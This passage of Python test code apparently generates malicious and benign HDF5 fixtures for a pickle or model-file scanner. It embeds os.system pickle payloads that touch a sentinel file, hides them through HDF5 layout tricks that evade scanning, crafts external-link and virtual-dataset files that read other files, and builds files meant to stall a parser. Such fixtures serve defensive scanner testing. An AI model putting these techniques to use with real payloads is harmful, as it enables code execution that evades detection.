    ``read_hdf`` reads them): a fixed-length string attribute ending in ``.`` is unpickled, so is
    a variable-length ASCII one, so is every row of an ``ObjectAtom`` array (compressed or not)."""
    import tempfile

    import h5py
    import tables

    p0 = f"cos\nsystem\n(S'touch {sentinel}'\ntR.".encode()
    stack = stack_global_without_proto(sentinel)
    files: dict[str, bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:

        def written(name: str, write: Any, **options: Any) -> None:
            path = Path(tmp) / name
            with h5py.File(path, "w", **options) as f:
                group = f.create_group("df")
                group.create_dataset("values", data=np.arange(64, dtype=np.float64))
                write(group.attrs)
            files[name] = path.read_bytes()

        written("pytables string attribute, GLOBAL.h5", lambda a: a.create("evil", np.bytes_(p0)))
        written("pytables string attribute, STACK_GLOBAL.h5",
                lambda a: a.create("evil", np.bytes_(stack)))  # fmt: skip
        written("pytables variable-length attribute, STACK_GLOBAL.h5",
                lambda a: a.create("evil", stack, dtype=h5py.string_dtype("ascii")))  # fmt: skip

        def dense(attrs: Any) -> None:  # past 8 attributes, the latest format uses a fractal heap
            for i in range(20):
                attrs.create(f"a{i}", np.bytes_(b"x" * 10))
            attrs.create("evil", np.bytes_(stack))

        written("pytables dense attribute, STACK_GLOBAL.h5", dense, libver="latest")

        path = Path(tmp) / "committed.h5"  # a named datatype: the message refers to it
        with h5py.File(path, "w") as f:
            f["strtype"] = np.dtype(f"S{len(stack)}")
            f.create_group("df").attrs.create("evil", stack, dtype=f["strtype"])
        files["pytables attribute of a named string type, STACK_GLOBAL.h5"] = path.read_bytes()
        files.update(_attribute_layouts(Path(tmp), stack, p0_inst(sentinel)))
        files["pytables heap with free space first, STACK_GLOBAL.h5"] = _free_space_first(
            Path(tmp), stack
        )
        files["pytables FILTERS rewritten before unpickling.h5"] = _filters_rewrite(
            Path(tmp), sentinel
        )
        files["pytables FILTERS rewritten 70 KB into its value.h5"] = _filters_rewrite(
            Path(tmp), sentinel, 70_000
        )
        files.update(_large_declared_sizes(Path(tmp), stack))
        files["pytables object row after an odd-sized free-space record, STACK_GLOBAL.h5"] = (
            _odd_free_space(Path(tmp), stack)
        )
        files["pytables attribute of a string array of no dimensions, STACK_GLOBAL.h5"] = (
            _dimensionless_array(Path(tmp), stack)
        )
        files.update(_converted_rows(Path(tmp), stack))
        path = Path(tmp) / "lengths4.h5"  # 4-byte lengths: libhdf5 pads heap headers to 8
        creation = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        creation.set_sizes(8, 4)
        identifier = h5py.h5f.create(str(path).encode(), h5py.h5f.ACC_TRUNC, fcpl=creation)
        with h5py.File(identifier) as f:
            f.create_group("df").attrs.create("note", stack, dtype=h5py.string_dtype("ascii"))
        files["pytables variable-length attribute, 4-byte lengths, STACK_GLOBAL.h5"] = (
            path.read_bytes()
        )

        class Evil:
            def __reduce__(self) -> Any:
                return (print, ())  # replaced by the raw stream below

        path = Path(tmp) / "objects.h5"
        with tables.open_file(str(path), "w") as f:
            atom = tables.ObjectAtom()
            atom._tobuffer = lambda _obj: stack  # type: ignore[method-assign]
            rows = f.create_vlarray("/", "rows", atom, filters=tables.Filters(9, "zlib"))
            rows.append(Evil())
        files["pytables object array, compressed, STACK_GLOBAL.h5"] = path.read_bytes()
    return files


def external_storage(target: str) -> bytes:
    """A dataset whose bytes live in another file (HDF5's External File List): h5py and PyTables
    read it from wherever it is named."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "external.h5"
        with h5py.File(path, "w") as f:
            f.create_group("df").create_dataset("values", shape=(64,), dtype="u1",
                                                external=[(target, 0, 64)])  # fmt: skip
        return path.read_bytes()


def other_files(target: str) -> dict[str, bytes]:
    """HDF5 files whose objects are read from the HDF5 file ``target``, wherever it is: through
    an external link (in the group's object header, or in its dense link storage, with and
    without creation order), and through a virtual dataset (in both file format versions)."""
    import tempfile

    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
    layout[:] = h5py.VirtualSource(target, "w", shape=(4,))
    made = {}
    with tempfile.TemporaryDirectory() as tmp:
        for name, libver, groups, order in (
            ("external link", "earliest", 0, False),
            ("external link in dense link storage", "latest", 20, False),
            ("external link in dense link storage, creation order", "earliest", 20, True),
        ):
            path = Path(tmp) / f"{name}.h5"
            with h5py.File(path, "w", libver=libver, track_order=order) as f:
                for i in range(groups):
                    f.create_group(f"layer{i}")
                f["weights"] = h5py.ExternalLink(target, "/")
            made[name] = path.read_bytes()
        for libver in ("earliest", "latest"):
            path = Path(tmp) / f"virtual {libver}.h5"
            with h5py.File(path, "w", libver=libver) as f:
                f.create_virtual_dataset("w", layout)
            made[f"virtual dataset, {libver} format"] = path.read_bytes()
    return made


def huge_link_in_heap_id(target: str) -> bytes:
    """Found by the eleventh attack round. A file of 2-byte offsets and 4-byte lengths, whose
    group ``model_weights`` keeps its links in a fractal heap (dense storage), one of them an
    external link to ``target``'s ``w`` longer than the heap's managed objects (its path is
    ``/./././…/w``, which libhdf5 does not shorten): a "huge" object, stored outside the heap's
    blocks, whose address and length libhdf5 puts in the 7-byte heap ID itself and reads from
    there. The heap's huge-object B-tree, never consulted for such IDs, is then marked
    undefined (and the header's checksum made again): ``f["model_weights/weights"]`` reads
    ``target``."""
    import tempfile

    import h5py
    import numpy as np

    offsets, lengths = 2, 4
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "direct.h5"
        create = h5py.h5p.create(h5py.h5p.FILE_CREATE)
        create.set_sizes(offsets, lengths)
        access = h5py.h5p.create(h5py.h5p.FILE_ACCESS)
        access.set_libver_bounds(h5py.h5f.LIBVER_LATEST, h5py.h5f.LIBVER_LATEST)
        made = h5py.h5f.create(str(path).encode(), h5py.h5f.ACC_TRUNC, fcpl=create, fapl=access)
        with h5py.File(made) as f:
            group = f.create_group("model_weights")
            for i in range(20):
                group[f"w{i:02d}"] = np.zeros(4, "float32")
            group["weights"] = h5py.ExternalLink(target, "/" + "./" * 2500 + "w")
        data = bytearray(path.read_bytes())
    heap = data.index(b"FRHP\x00")
    # the header up to its checksum: fixed fields, then its sizes (see hdf5_headers)
    length = 14 + 12 * lengths + 3 * offsets + 8
    data[heap + 14 + lengths : heap + 14 + lengths + offsets] = b"\xff" * offsets
    checksum = lookup3(bytes(data[heap : heap + length]))
    data[heap + length : heap + length + 4] = checksum.to_bytes(4, "little")
    return bytes(data)


def link_past_declared_block_size(target: str) -> bytes:
    """Found by the twelfth attack round. h5py writes a group ``g`` of 12 datasets and an
    external link ``x`` to ``target``'s ``w`` (dense link storage: one 512-byte root block).
    Then the heap header declares a largest direct block size of 612, not a power of two:
    libhdf5 derives its rows of direct blocks from the size's logarithm (that of 612 counts as
    11), so a root indirect block of 4 rows may hold a 2,048-byte block, in row 3. The link
    message moves to byte 1,900 of such a block (past 612), the name index's record points
    there, and every checksum is made again: ``f["g/x"]`` reads ``target``."""
    import tempfile

    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "rows.h5"
        with h5py.File(path, "w", libver="latest") as f:
            group = f.create_group("g")
            for i in range(12):
                group[f"d{i:02d}"] = np.arange(2) + i
            group["x"] = h5py.ExternalLink(target, "/w")
        data = bytearray(path.read_bytes())
    size = 8  # the file's offsets and lengths

    def get(at: int, n: int = size) -> int:
        return int.from_bytes(data[at : at + n], "little")

    def put(at: int, value: int, n: int = size) -> None:
        data[at : at + n] = value.to_bytes(n, "little")

    def seal(start: int, end: int) -> None:  # a checksum in the last 4 bytes of [start, end)
        put(end - 4, lookup3(bytes(data[start : end - 4])), 4)

    heap, block, leaf = data.index(b"FRHP"), data.index(b"FHDB"), data.index(b"BTLF")
    width_at = heap + 14 + 10 * size + 2 * size
    start_at, largest_at = width_at + 2, width_at + 2 + size
    heap_bits_at = largest_at + size
    root_at, rows_at = heap_bits_at + 4, heap_bits_at + 4 + size
    width, start, heap_bits = get(width_at, 2), get(start_at), get(heap_bits_at, 2)
    assert (width, start, get(root_at), get(rows_at, 2)) == (4, 512, block, 0)
    checksummed = data[heap + 9] & 2
    block_header = 5 + size + heap_bits // 8 + (4 if checksummed else 0)
    # the name index's records (hash, heap ID: a flag byte, offset, length) and the link's
    records, at = [], leaf + 6
    while data[at + 4] == 0 and 0 < get(at + 5, 4) < start and get(at + 9, 2):
        records.append(at)
        at += 11
    (record,) = [r for r in records if data[block + get(r + 5, 4)] == 1 and data[
        block + get(r + 5, 4) + 2] == 64]  # fmt: skip
    offset, length = get(record + 5, 4), get(record + 9, 2)
    message = bytes(data[block + offset : block + offset + length])
    data[block + offset : block + offset + length] = bytes(length)
    if checksummed:
        put(block + block_header - 4, 0, 4)
        put(block + block_header - 4, lookup3(bytes(data[block : block + start])), 4)
    rows = 4  # direct blocks of 512, 512, 1024 and 2048 bytes
    row_sizes = [start, start, 2 * start, 4 * start]
    new_offset = width * sum(row_sizes[:3])  # row 3, column 0, in the heap's space
    new_block = len(data) + (-len(data)) % 8
    raw = bytearray(row_sizes[3])
    raw[:5] = b"FHDB\x00"
    raw[5 : 5 + size] = heap.to_bytes(size, "little")
    raw[5 + size : 5 + size + heap_bits // 8] = new_offset.to_bytes(heap_bits // 8, "little")
    where = 1900
    raw[where : where + length] = message
    if checksummed:
        raw[block_header - 4 : block_header] = lookup3(bytes(raw)).to_bytes(4, "little")
    indirect_at = new_block + len(raw)
    indirect = bytearray(b"FHIB\x00" + heap.to_bytes(size, "little") + bytes(heap_bits // 8))
    entries = [(1 << 64) - 1] * (rows * width)
    entries[0], entries[3 * width] = block, new_block
    for entry in entries:
        indirect += entry.to_bytes(size, "little")
    indirect += lookup3(bytes(indirect)).to_bytes(4, "little")
    data += bytes(new_block - len(data)) + raw + indirect
    put(largest_at, 612)
    put(root_at, indirect_at)
    put(rows_at, rows, 2)
    space = heap + 14 + 2 * size  # free space, its manager, managed and allocated space
    put(space, 0)
    put(space + size, (1 << 64) - 1)
    put(space + 2 * size, new_offset + width * row_sizes[3])
    put(space + 3 * size, start + row_sizes[3])
    seal(heap, rows_at + 2 + 4)
    put(record + 5, new_offset + where, 4)
    seal(leaf, leaf + 6 + 11 * len(records) + 4)
    assert data[8] in (2, 3)  # a version 2-3 superblock: its end-of-file address, checksum
    put(28, len(data))
    seal(0, 48)
    return bytes(data)


def link_behind_decoy_chunk(target: str) -> bytes:
    """Found by the thirteenth attack round. h5py writes (``libver="earliest"``) a group ``g``
    whose version-1 header continues in a chunk holding an external link ``ext`` to
    ``target``'s ``w``. ``OCHK`` goes into the 4 free bytes before that chunk, and a decoy
    version-2 header, appended past the end of the file libhdf5 reads, continues into those
    bytes: read as a version-2 chunk, the same span parses to nothing, and the scan read each
    span once whatever the header version. ``f["g/ext"]`` reads ``target``."""
    import tempfile

    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "decoy.h5"
        with h5py.File(path, "w", libver="earliest") as f:
            group = f.create_group("g")
            group["x"] = np.arange(3)
            group["ext"] = h5py.ExternalLink(target, "/w")
            header = h5py.h5o.get_info(group.id).addr
        data = bytearray(path.read_bytes())
    assert data[header] == 1 and struct.unpack_from("<H", data, header + 16)[0] == 0x10
    chunk, length = struct.unpack_from("<QQ", data, header + 24)
    assert data[chunk - 4 : chunk] == bytes(4)
    data[chunk - 4 : chunk] = b"OCHK"
    decoy = b"OHDR\x02\x00" + bytes([20]) + struct.pack("<BHB", 0x10, 16, 0)
    decoy += struct.pack("<QQ", chunk - 4, length + 8) + bytes(4)
    return bytes(data + bytes(-len(data) % 8) + decoy)


def lookup3(data: bytes) -> int:
    """Bob Jenkins' lookup3 ``hashlittle`` with an initial value of 0: the checksum of HDF5's
    version-2 structures."""
    mask = 0xFFFFFFFF

    def rot(x: int, k: int) -> int:
        return ((x << k) | (x >> (32 - k))) & mask

    a = b = c = (0xDEADBEEF + len(data)) & mask
    at = 0
    while len(data) - at > 12:
        a = (a + int.from_bytes(data[at : at + 4], "little")) & mask
        b = (b + int.from_bytes(data[at + 4 : at + 8], "little")) & mask
        c = (c + int.from_bytes(data[at + 8 : at + 12], "little")) & mask
        for shift, (x, y, z) in zip((4, 6, 8, 16, 19, 4), "acb bac cba acb bac cba".split()):
            v = {"a": a, "b": b, "c": c}
            v[x] = ((v[x] - v[y]) & mask) ^ rot(v[y], shift)
            v[y] = (v[y] + v[z]) & mask
            a, b, c = v["a"], v["b"], v["c"]
        at += 12
    if at == len(data):
        return c
    tail = data[at:] + bytes(12 - (len(data) - at))
    a = (a + int.from_bytes(tail[0:4], "little")) & mask
    b = (b + int.from_bytes(tail[4:8], "little")) & mask
    c = (c + int.from_bytes(tail[8:12], "little")) & mask
    for shift, (x, y) in zip((14, 11, 25, 16, 4, 14, 24), "cb ac ba cb ac ba cb".split()):
        v = {"a": a, "b": b, "c": c}
        v[x] = (v[x] ^ v[y]) - rot(v[y], shift) & mask
        a, b, c = v["a"], v["b"], v["c"]
    return c


def many_links(groups: int = 2000) -> bytes:
    """A benign twin of :func:`other_files`: thousands of groups (dense link storage, creation
    order tracked) and dense attribute storage, all in the one file."""
    import tempfile

    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "links.h5"
        with h5py.File(path, "w", libver="latest", track_order=True) as f:
            for i in range(groups):
                f.create_group(f"layer{i}").create_dataset("kernel", data=np.arange(4.0))
            for i in range(30):
                f.attrs[f"a{i}"] = np.arange(100)
            f["alias"] = h5py.SoftLink("/layer0/kernel")
        return path.read_bytes()


def p0_inst(sentinel: Path) -> bytes:
    """A protocol-0 INST: its MARK comes before the import line."""
    return b"(S'touch " + str(sentinel).encode() + b"'\nios\nsystem\n."


def _attribute_layouts(tmp: Path, stack: bytes, inst: bytes) -> dict[str, bytes]:
    """Attribute messages libhdf5 reads as it always does, laid out unlike what it writes: a
    reserved dataspace flag set, junk after a datatype declared longer, junk after a dataspace
    declared longer (version-1 messages: header 8 bytes, name, datatype, dataspace, each padded
    to 8)."""
    import h5py

    files = {}
    for label, payload in (("STACK_GLOBAL", stack), ("INST", inst)):
        path = tmp / "layout.h5"
        with h5py.File(path, "w") as f:
            f.create_group("df").attrs.create("nameXXXXXXXXXXX", np.bytes_(payload))
        base = path.read_bytes()
        i = base.find(payload)
        m = i - 40
        assert base[m : m + 2] == b"\x01\x00" and base[m + 24] == 0x13 and base[i - 8] == 1
        dt, ds = base[i - 16 : i - 8], base[i - 8 : i]
        flags = bytearray(base)
        flags[i - 6] = 0x80
        files[f"attribute with a reserved dataspace flag, {label}.h5"] = bytes(flags)
        for name, sizes, body in (
            ("datatype", (5, 16, 8), b"note\0\0\0\0" + dt + b"\xff" * 8 + ds),
            ("dataspace", (5, 8, 16), b"note\0\0\0\0" + dt + ds + b"\xff" * 8),
        ):
            patched = bytearray(base)
            patched[m + 2 : m + 8] = struct.pack("<HHH", *sizes)
            patched[m + 8 : i] = body
            files[f"attribute with junk after its {name}, {label}.h5"] = bytes(patched)
    return files


def _large_declared_sizes(tmp: Path, stack: bytes) -> dict[str, bytes]:
    """Version-1 attribute messages whose datatype, or dataspace, is declared 16 KiB longer
    than it is, the junk after it stepped over by libhdf5 (the sizes are 2 bytes each, so any
    value up to 64 KiB is as good as a small one)."""
    import h5py

    path = tmp / "large.h5"
    with h5py.File(path, "w") as f:
        f.create_group("df").attrs.create("evil", np.bytes_(b"Q" * 40_000))
    base = path.read_bytes()
    m = base.find(b"\x01\x00\x05\x00\x08\x00\x08\x00evil\x00")
    assert m > 0 and base[m + 16] == 0x13
    string = bytearray(base[m + 16 : m + 24])
    string[4:8] = struct.pack("<I", len(stack))
    scalar = b"\x01" + b"\x00" * 7
    junk = b"\xff" * 0x4000
    files = {}
    for part, sizes, body in (
        ("datatype", (5, 8 + len(junk), 8), bytes(string) + junk + scalar),
        ("dataspace", (5, 8, 8 + len(junk)), bytes(string) + scalar + junk),
    ):
        message = struct.pack("<BBHHH", 1, 0, *sizes) + b"evil\0\0\0\0" + body + stack
        patched = bytearray(base)
        patched[m : m + len(message)] = message
        files[f"attribute with 16 KiB of junk after its {part}, STACK_GLOBAL.h5"] = bytes(patched)
    return files


def _odd_free_space(tmp: Path, stack: bytes) -> bytes:
    """An object array's global heap rewritten: a free-space record of 20 bytes (libhdf5 moves
    on by a free record's size, aligned or not), the row's object off the 8-byte grid after it,
    a 12-byte free record back onto the grid, free space to the end. The row's descriptor (its
    length, the heap's address, the object's index) is given the payload's length, which
    libhdf5 checks against the object's."""
    import tables

    path = tmp / "odd.h5"
    with tables.open_file(str(path), "w") as f:
        f.create_vlarray("/", "rows", tables.ObjectAtom()).append(b"A" * 60)
    data = bytearray(path.read_bytes())
    g = data.find(b"GCOL\x01")
    size = struct.unpack_from("<Q", data, g + 8)[0]
    body = struct.pack("<HHIQ", 0, 0, 0, 20) + b"\0" * 4
    body += struct.pack("<HHIQ", 1, 1, 0, len(stack)) + stack + b"\0" * (-len(stack) % 8)
    body += struct.pack("<HHIQ", 0, 0, 0, 12)[:12]
    rest = size - 16 - len(body)
    body += struct.pack("<HHIQ", 0, 0, 0, rest) + b"\0" * (rest - 16)
    data[g + 16 : g + size] = body
    row = next(n for n in range(1, 4096) if data.count(struct.pack("<IQI", n, g, 1)) == 1)
    at = data.find(struct.pack("<IQI", row, g, 1))
    data[at : at + 4] = struct.pack("<I", len(stack))
    return bytes(data)


def _dimensionless_array(tmp: Path, stack: bytes) -> bytes:
    """A scalar attribute whose datatype is an array of a fixed string, its rank patched to 0
    (the rest of the declared datatype is stepped over): numpy reads the type as the string
    itself, and PyTables unpickles the value."""
    import h5py

    path = tmp / "array.h5"
    with h5py.File(path, "w") as f:
        string = h5py.h5t.C_S1.copy()
        string.set_size(len(stack))
        array = h5py.h5t.array_create(string, (1,))
        space = h5py.h5s.create(h5py.h5s.SCALAR)
        attribute = h5py.h5a.create(f.id, b"pandas_type", array, space)
        attribute.write(np.array([stack], dtype=f"S{len(stack)}"), mtype=array)
        attribute.close()
    data = bytearray(path.read_bytes())
    base = bytes([0x13, 0, 0, 0]) + struct.pack("<I", len(stack))
    old = bytes([0x2A, 0, 0, 0]) + struct.pack("<IIII", len(stack), 1, 1, 0) + base
    new = (bytes([0x2A, 0, 0, 0]) + struct.pack("<II", len(stack), 0) + base).ljust(len(old), b"\0")
    assert data.count(old) == 1
    at = data.find(old)
    data[at : at + len(old)] = new
    return bytes(data)


def _converted_rows(tmp: Path, stack: bytes) -> dict[str, bytes]:
    """Object arrays whose rows libhdf5 converts as PyTables reads them (with the native form
    of the element type), so that the stored bytes hold no pickle and the converted ones do:
    big-endian 2-byte elements (each pair of the payload's bytes stored swapped), and 2-byte
    elements whose 8 significant bits start at bit 4 (each byte stored shifted)."""
    import tables

    files = {}
    even = stack + b" " * (len(stack) % 2)  # a byte after the STOP is never read
    for label, order, elements in (
        ("big-endian 2-byte", "big", np.frombuffer(even, "<u2").astype(">u2")),
        ("shifted 2-byte", "little", np.frombuffer(stack, "u1").astype("<u2") << 4),
    ):
        path = tmp / "converted.h5"
        with tables.open_file(str(path), "w") as f:
            rows = f.create_vlarray("/", "rows", tables.UInt16Atom(), byteorder=order)
            rows.append(elements)
            rows.attrs.PSEUDOATOM = "object"
        data = path.read_bytes()
        if label.startswith("shifted"):  # integer, size 2, bit offset 0 -> 4, precision 16 -> 8
            old = b"\x10\x00\x00\x00\x02\x00\x00\x00\x00\x00\x10\x00"
            assert data.count(old) == 1
            data = data.replace(old, old[:8] + b"\x04\x00\x08\x00")
        assert stack[:-1] not in data
        files[f"pytables object rows of {label} elements, STACK_GLOBAL.h5"] = data
        if label.startswith("big"):
            files[f"pytables object rows of {label} elements, type continued, STACK_GLOBAL.h5"] = (
                _datatype_continued(data)
            )
            at = data.find(b"\x03\x00\x18\x00\x01\x00\x00\x00\x19\x00\x00\x00")
            header = next(h for h in range(at - 16, 0, -1) if _v1_header_holds(data, h, at))
            nibble = data.replace(b"\x19\x00\x00\x00\x10\x00", b"\x19\x02\x00\x00\x10\x00", 1)
            files[f"pytables object rows of {label} elements, sequence type 2, STACK_GLOBAL.h5"] = (
                nibble  # libhdf5 takes any variable-length type but 1 (a string) for a sequence
            )
            reserved = bytearray(data)
            reserved[header + 1] = 0xFF  # libhdf5 skips the byte after the version
            files[f"pytables object rows of {label} elements, reserved byte, STACK_GLOBAL.h5"] = (
                bytes(reserved)
            )
    return files


def _datatype_continued(data: bytes) -> bytes:
    """The variable-length dataset's datatype message moved out of its version-1 object header
    into a continuation chunk at the end of the file: in its place a continuation message and
    a null message (the header's message count one more), the file's end address moved."""
    at = data.find(b"\x03\x00\x18\x00\x01\x00\x00\x00\x19\x00\x00\x00")
    assert at > 0 and data.count(data[at : at + 12]) == 1
    message = data[at : at + 32]
    header = next(h for h in range(at - 16, 0, -1) if _v1_header_holds(data, h, at))
    patched = bytearray(data)
    patched[header + 2 : header + 4] = struct.pack(
        "<H", struct.unpack_from("<H", data, header + 2)[0] + 1
    )
    patched[at : at + 32] = (struct.pack("<HHB3x", 0x10, 16, 0) + struct.pack("<QQ", len(data), 32)
                             + struct.pack("<HHB3x", 0, 0, 0))  # fmt: skip
    patched[40:48] = struct.pack("<Q", len(data) + 32)  # superblock version 0: end of file
    return bytes(patched) + message


def _v1_header_holds(data: bytes, header: int, message: int) -> bool:
    """Whether a version-1 object header starts at ``header`` and its first chunk's messages
    (tiling it exactly) include one at ``message``."""
    if data[header : header + 2] != b"\x01\x00":
        return False
    chunk = struct.unpack_from("<I", data, header + 8)[0]
    cursor, end, starts = header + 16, header + 16 + chunk, set()
    while cursor < end:
        starts.add(cursor)
        cursor += 8 + struct.unpack_from("<H", data, cursor + 2)[0]
    return cursor == end and message in starts


def header_walk_stall() -> bytes:
    """An HDF5 file followed by 4 MiB of what reads as version-1 object headers: every 64 KiB a
    prefix claiming 65,528 messages (which earlier prefixes read as one message over the 64 KiB
    to the next), then empty messages; each candidate steps over messages to the end."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "headers.h5"
        with h5py.File(path, "w") as f:
            f.create_dataset("x", data=[1, 2, 3])
        head = path.read_bytes()
    block = 64 * 1024
    empty = b"\x01" + bytes(7)  # a message of type 1 and size 0 (a run of zeros is skipped)
    tail = b"".join(
        struct.pack("<BBHIII", 1, 0, 0xFFF8, 1, (64 - i) * block - 16, 0) + empty * 8190
        for i in range(64)
    )
    return head + tail


def datatype_reparse_stall(count: int = 40) -> bytes:
    """A superblock, then ``count`` version-1 header prefixes (each, read as a message by the
    ones before it, one message over its own 1 KiB of null messages) whose first chunks all
    tile through the same ``count`` 64 KiB datatype messages (a sequence of a compound of
    4,090 bytes): each datatype would be parsed once per candidate."""
    members = b"".join(b"a\0" + struct.pack("<H", i) + bytes.fromhex("100000000100000000000800")
                       for i in range(4090))  # fmt: skip
    compound = b"\x36" + struct.pack("<I", 4090)[:3] + struct.pack("<I", 4090) + members
    sequence = b"\x19\x00\x00\x00" + struct.pack("<I", 16) + compound
    sequence += b"\0" * (-len(sequence) % 8)
    datatypes = (struct.pack("<HHB3x", 3, len(sequence), 0) + sequence) * count
    superblock = (b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0])).ljust(96, b"\0")
    out = bytearray(superblock)
    first = len(out)
    for i in range(count):
        at = first + i * 1032
        chunk = first + count * 1032 + len(datatypes) - (at + 16)
        out += struct.pack("<BBHII4x", 1, 0, 1024, 1, chunk).ljust(1032, b"\0")
    return bytes(out + datatypes)


def zero_run_stall(total: int = 1 << 20) -> bytes:
    """Dense 32-byte version-1 header candidates (a prefix whose chunk runs to the end of the
    file, an empty null message, a message whose body jumps to a shared 128-byte zero area),
    a header with an unaligned size after each area ending every walk: each candidate measures
    the same zeros again."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        with h5py.File(Path(tmp) / "empty.h5", "w"):
            pass
        out = bytearray((Path(tmp) / "empty.h5").read_bytes())
    chunks = []
    while len(out) + 1000 * 32 + 136 <= total:
        zone = len(out) + 1000 * 32
        for _ in range(1000):
            chunks.append(len(out) + 8)
            jump = zone - (len(out) + 32)
            out += struct.pack("<BBHI", 1, 0, 2049, 1) + bytes(8) + bytes(8)
            out += struct.pack("<HH4x", 1, jump)
        out += bytes(128) + struct.pack("<HH4x", 1, 3)
    out += bytes(total - len(out))
    for at in chunks:
        out[at : at + 4] = struct.pack("<I", total - (at - 8 + 16))
    return bytes(out)


def long_line_stall() -> bytes:
    """An HDF5 file followed by PROTO 2 + INT headers and 4 MB without a newline: each candidate
    reads a protocol-0 line to the end of the file."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "lines.h5"
        with h5py.File(path, "w") as f:
            f.create_dataset("x", data=[1, 2, 3])
        return path.read_bytes() + b"\x80\x02I" * 100_000 + b"A" * 4_000_000


def stalling_hdf5() -> bytes:
    """A dataset of ``PROTO 2, NONE, POP`` repeated: every ``\\x80\\x02`` in it starts a walk
    that parses on to the end of the file without a STOP, so walking each candidate in full
    costs the square of the file's size."""
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "stall.h5"
        with h5py.File(path, "w") as f:
            f.create_dataset("x", data=np.frombuffer(b"\x80\x02N0" * 4000, np.uint8))
        return path.read_bytes()


def _free_space_first(tmp: Path, stack: bytes) -> bytes:
    """A variable-length attribute whose global heap collection starts with a free-space
    record: libhdf5 steps over it and reads the objects after it."""
    import h5py

    path = tmp / "heap.h5"
    with h5py.File(path, "w") as f:
        f.create_group("df").attrs.create("note", stack, dtype=h5py.string_dtype("ascii"))
    data = bytearray(path.read_bytes())
    g = data.find(b"GCOL\x01")
    size = struct.unpack_from("<Q", data, g + 8)[0]
    objects, cursor = [], g + 16
    while True:
        index, refs, _, length = struct.unpack_from("<HHIQ", data, cursor)
        if index == 0:
            break
        objects.append((index, refs, bytes(data[cursor + 16 : cursor + 16 + length])))
        cursor += 16 + (length + 7) // 8 * 8
    body = struct.pack("<HHIQ", 0, 0, 0, 16)
    for index, refs, value in objects:
        body += struct.pack("<HHIQ", index, refs, 0, len(value))
        body += value.ljust((len(value) + 7) // 8 * 8, b"\0")
    body += struct.pack("<HHIQ", 0, 0, 0, size - 16 - len(body))
    data[g + 16 : g + size] = body.ljust(size - 16, b"\0")
    return bytes(data)


def _filters_rewrite(tmp: Path, sentinel: Path, skip: int = 0) -> bytes:
    """PyTables rewrites an old file's FILTERS attribute before unpickling it, three bytes
    longer: a bytes constant then covers less, and what was data in it runs. With ``skip``, the
    value starts with that many bytes of a bytes constant (a value that large is stored in a
    fractal heap, outside the object header)."""
    import h5py

    blob = b"(ctables.Leaf\n" + b"#" * 8 + b"0C\x01"  # its last 3 bytes spill after the rewrite
    payload = b"00" + stack_global_without_proto(sentinel)
    assert len(payload) <= 0x7D
    stored = b"C" + bytes([len(blob)]) + blob + b"C}" + payload.ljust(0x7D, b"#") + b"00N."
    if skip:
        stored = b"B" + struct.pack("<I", skip) + b"#" * skip + b"0" + stored
    path = tmp / "filters.h5"
    with h5py.File(path, "w", libver="latest" if skip else "earliest") as f:
        f.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_(b"1.6")
        f.create_group("df").attrs["FILTERS"] = np.bytes_(stored)
    return path.read_bytes()


def pytables_benign(attributes: dict[str, bytes]) -> bytes:
    """An HDF5 file written with PyTables: a table, an object array of plain values, and the
    given raw byte-string attributes (pandas stores protocol-0 pickles in such attributes)."""
    import tempfile

    import tables

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "frame.h5"
        with tables.open_file(str(path), "w") as f:
            table = f.create_table("/", "table", {"index": tables.Int64Col(),
                                                  "values": tables.Float64Col()})  # fmt: skip
            table.append([(i, i / 3) for i in range(100)])
            rows = f.create_vlarray("/", "objects", tables.ObjectAtom())
            rows.append(["a", 1, 2.5, None, {"k": (1, 2)}])
            table.attrs.columns = ["index", "values"]  # PyTables pickles these itself
            table.attrs.levels = {"index": 1}
            for name, value in attributes.items():
                table.attrs[name] = np.bytes_(value)
        return path.read_bytes()


def _escaped_lambda_config() -> str:
    """A Keras config whose Lambda layer is named in 800 ``\\u0041`` escapes, spaced so that the
    first 4 KiB window of each object holding it ends inside an escape (json then reports an
    invalid escape a few characters before the cut, not a cut)."""
    escapes = "\\u0041" * 800
    lam = ('{ "class_name": "Lambda", "config": {"name": "' + escapes
           + '", "function": ["x", null, null]}}')  # fmt: skip
    inner = ('{"name": "m", "layers": [{"class_name": "InputLayer", "config": '
             '{"batch_input_shape": [null, 4]}}, ' + lam + "]}")  # fmt: skip
    return '{"class_name": "Sequential", "config": ' + inner + "}"


def _tar_member(name: str, data: bytes) -> bytes:
    """One ustar member (header and padded data), no end blocks: GNU tar skips a corrupt header
    to the next one it can read, Python's tarfile stops there."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()[: 512 + (len(data) + 511) // 512 * 512]


def _line_across_frame(payload: bytes) -> bytes:
    """A 200 KB frame that ends inside ``p1|0\n``: the C unpickler, reading from a file, has
    the frame whole, drops the ``1`` and stores key 0, which ``g0`` then finds; a walker that
    reads the line in one piece stores key 10."""
    size = 200_000
    frame = b"B" + struct.pack("<I", size - 9) + b"x" * (size - 9) + b"0Np1"
    return b"\x80\x04\x95" + struct.pack("<Q", size) + frame + b"0\ng0\n0" + payload


def _sbu(text: str) -> bytes:
    """SHORT_BINUNICODE ``text``."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _zstd_skippable(payload: bytes) -> bytes:
